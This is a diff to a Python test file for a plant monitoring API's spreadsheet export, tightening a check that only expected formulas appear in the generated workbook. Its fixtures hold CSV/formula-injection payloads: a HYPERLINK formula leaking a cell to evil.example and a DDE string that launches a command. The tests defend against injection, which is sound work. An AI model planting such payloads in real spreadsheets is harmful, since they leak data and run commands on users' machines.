@@ -7,6 +7,7 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 
 import numpy as np
 import openpyxl
@@ -19,6 +20,7 @@ from plantmrv.analytics.config import AnalyticsConfig
 from plantmrv.analytics.engine import Engine
 from plantmrv.api.app import create_app
 from plantmrv.api.cells import TRIGGERS, csv_rows, neutralise, unneutralise
+from plantmrv.api.workbook import FORMULA_SHEETS
 from plantmrv.simulators import plants
 from tests import verify_export
 from tests.test_api_support import DAY0, PROJECT_ID, S, TOKENS, analytics_raw, fresh_database, make_cfg
@@ -27,7 +29,9 @@ NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
 DDE = "+cmd|' /C calc'!A0"
 SITE, ASSET = "bin,duong", "@pump1"
 RANGE = {"from": "2026-03-10T00:00:00Z", "to": "2026-03-10T06:00:00Z"}
-FORMULA_STARTS = ("=Input!", "=SUM(", "=MAX(", "=B", "=C", "=D", "=F")
+#: what the export's formulas are made of: cell references (of its own sheets), the functions it
+#: uses, numbers, operators and the empty text ""; anything else in a formula came from data
+FORMULA_TOKENS = re.compile(r'(?:(?:Input|FOD|Days)!)?\$?[A-Z]{1,3}\$?[0-9]+|SUMIFS|SUM|MAX|MIN|IF|EXP|INT|ROUND|[0-9.]+(?:E-?[0-9]+)?|[-+*/(),:=<>]|""')
 
 
 @pytest.fixture(scope="module")
@@ -87,7 +91,7 @@ def test_xlsx_holds_formulas_only_where_the_export_builds_them(hostile, tmp_path
             for c in row:
                 if c.data_type == "f":
                     formulas += 1
-                    assert ws.title == "Calculation" and str(c.value).startswith(FORMULA_STARTS) and "HYPERLINK" not in str(c.value), (ws.title, c.coordinate, c.value)
+                    assert ws.title in FORMULA_SHEETS and FORMULA_TOKENS.sub("", str(c.value)) == "", (ws.title, c.coordinate, c.value)
                 elif isinstance(c.value, str) and c.value:
                     assert c.value[0] not in TRIGGERS - {"'"}, (ws.title, c.coordinate, c.value)
     assert formulas > 6 * 6  # the Calculation sheet is live
